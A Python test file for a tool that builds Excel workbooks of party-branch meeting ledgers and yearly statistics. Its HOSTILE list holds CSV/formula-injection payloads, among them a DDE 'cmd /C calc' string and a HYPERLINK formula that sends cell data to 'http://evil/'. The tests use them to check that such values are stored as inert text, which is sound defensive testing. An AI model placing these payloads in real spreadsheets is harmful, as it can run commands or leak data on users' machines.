"""Workbooks: the columns as the forms have them, text as text, nothing cut off."""

import io
import re
import zipfile
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from bot.documents.ledger import LEDGER_COLUMNS, workbook
from bot.documents.plain import clean
from bot.documents.values import Column, LedgerRow, Share, Sheet, StatisticsRow

MADE = datetime(2026, 12, 6, 1, 30, tzinfo=UTC)
LEDGER_TITLES = (
    "日期 | 类别 | 主题/议题 | 主持人 | 记录人 | 应到 | 实到 | 缺席及原因 | 列席 | 主要内容 | "
    "决议/议定事项 | 落实情况 | 附件 | 备注"
)
STATISTICS_TITLES = (
    "序号 | 党支部名称 | 书记 | 党员数(正式/预备) | 支委数 | 党小组数 | 党员大会 应召开/实召开 | 支委会 应/实 | "
    "党小组会 应/实(各组合计) | 党课 应/实 | 主题党日 应/实 | 组织生活会 | 民主评议党员 | 谈心谈话 人次 | "
    "应到人次 | 实到人次 | 未到人次 | 到会率 | 无故缺席人次 | 学时达标人数 | 记录归档率 | 党费收缴 | "
    "未完成项目及原因 | 评定(绿/黄/红) | 填报人 | 审核人 | 填报日期"
)
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil/"&A1,"点我")',
    "-1+cmd|' /C calc'!A0",
    "+1",
    "@SUM(A1)",
    "{=1+1}",
    "http://example.com",
    "0037",
    "<r>x</r>",
    "<r><t>x</t></r>",
    "_x0041_",
    "</t></si><si><t>",
    "  前后  ",
    "甲\n乙\t丙",
    "坏\ud800\x00",
    "True",
    "2026-12-05",
]


def row(**changes: Any) -> LedgerRow:
    values: dict[str, Any] = {
        "day": date(2026, 12, 5),
        "category": "支部党员大会、党课",
        "topic": "学习",
        "host": "张三",
        "recorder": "李四",
        "expected": 12,
        "present": 10,
        "absences": "钱二（病假）",
    }
    return LedgerRow(**(values | changes))


def statistics(**changes: Any) -> StatisticsRow:
    values: dict[str, Any] = {
        "branch": "机关第一党支部",
        "secretary": "张三",
        "full": 11,
        "probationary": 1,
        "committee_size": 3,
        "groups": 0,
        "general_meeting": Share(5, 4),
        "committee_meeting": Share(11, 12),
        "group_meeting": None,
        "party_lecture": Share(4, 4),
        "theme_party_day": Share(12, 12),
        "org_life_meeting": "已落实",
        "member_appraisal": "已落实",
        "talks": None,
        "expected": 140,
        "present": 120,
        "missing": 20,
        "unexcused": 0,
        "hours_met": 11,
        "archived": Share(0, 0),
        "filled_on": date(2026, 12, 31),
    }
    return StatisticsRow(**(values | changes))


def read(data: bytes, sheet: int = 0) -> list[list[Any]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(sheet).to_python()


def sheet(*rows: LedgerRow, columns: tuple[Column, ...] = ()) -> Sheet:
    return Sheet("台账", "2026年三会一课台账", rows, columns)


def test_ledger_has_its_columns_and_its_row() -> None:
    assert read(workbook([sheet(row())], "机关第一党支部", MADE)) == [
        ["2026年三会一课台账", *[""] * 13],
        LEDGER_TITLES.split(" | "),
        [date(2026, 12, 5), "支部党员大会、党课", "学习", "张三", "李四", 12.0, 10.0, "钱二（病假）", *[""] * 6],
    ]


def test_statistics_have_their_columns_and_their_row() -> None:
    data = workbook([Sheet("年度", "2026年度落实情况统计表", (statistics(),))], "机关党委", MADE)
    assert read(data)[1:] == [
        STATISTICS_TITLES.split(" | "),
        [
            *[1.0, "机关第一党支部", "张三", "11/1", 3.0, 0.0, "4/5", "12/11", "不适用", "4/4", "12/12"],
            *["已落实", "已落实", "未登记", 140.0, 120.0, 20.0, 0.857, 0.0, 11.0, "—"],
            *["", "", "", "", "", date(2026, 12, 31)],
        ],
    ]


def test_unknown_attendance_is_said() -> None:
    assert read(workbook([sheet(row(present=None, expected=None))], "支部", MADE))[2][5:7] == ["未登记", "未登记"]
    data = workbook([Sheet("年", "年", (statistics(present=None),))], "支部", MADE)
    assert [read(data)[2][index] for index in (15, 17)] == ["未登记", "未登记"]


def test_rates_are_rounded_as_in_the_pictures() -> None:
    data = workbook([Sheet("年", "年", (statistics(present=1, expected=16),))], "支部", MADE)
    assert read(data)[2][17] == 0.063


def test_columns_follow_the_value_given() -> None:
    own = (Column("host", "主持"), Column("day", "时间"))
    assert read(workbook([sheet(row(), columns=own)], "支部", MADE))[1:] == [
        ["主持", "时间"],
        ["张三", date(2026, 12, 5)],
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_a_string_cell(text: str) -> None:
    data = workbook([sheet(row(topic=text, content=text))], "支部", MADE)
    assert [read(data)[2][index] for index in (2, 9)] == [clean(text)] * 2
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        cells = archive.read("xl/worksheets/sheet1.xml").decode()
        assert re.findall(r'<c r="(?:C|J)3"[^>]* t="(\w+)"', cells) == ["s", "s"]
        assert "<f>" not in cells
        assert [name for name in archive.namelist() if "rels" in name and b"External" in archive.read(name)] == []


@settings(max_examples=60, deadline=None)
@given(st.text(st.characters(codec=None), min_size=1, max_size=40))
def test_any_text_reads_back(text: str) -> None:
    shown = clean(text)
    found = read(workbook([sheet(row(topic=text))], "支部", MADE))[2][2]
    assert found == shown


def test_a_text_too_long_goes_on_beside_itself() -> None:
    table = read(workbook([sheet(row(content="长" * 32768), row(content="短"))], "支部", MADE))
    assert table[1][9:12] == ["主要内容", "主要内容（续1）", "决议/议定事项"]
    assert [line[9:11] for line in table[2:]] == [["长" * 32767, "长"], ["短", ""]]


def test_sheets_have_allowed_and_different_names() -> None:
    sheets = [Sheet("表名[]:*?/\\", "一", (row(),)), Sheet("表名[]:*?/\\", "二", ())]
    data = workbook(sheets, "支部", MADE)
    assert CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names == ["表名_______", "表名_______(2)"]
    assert read(data, 1)[1][: len(LEDGER_COLUMNS)] == LEDGER_TITLES.split(" | ")


def test_equal_workbooks_have_equal_bytes_and_name_no_software() -> None:
    first, second = (workbook([sheet(row())], "机关第一党支部", MADE) for _ in range(2))
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        core = archive.read("docProps/core.xml").decode()
        everything = b"".join(archive.read(name) for name in archive.namelist()).lower()
    assert re.findall(r"<dc:creator>(.*?)</dc:creator>", core) == ["机关第一党支部"]
    assert re.findall(r"<dcterms:created[^>]*>(.*?)<", core) == ["2026-12-06T01:30:00Z"]
    assert b"xlsxwriter" not in everything
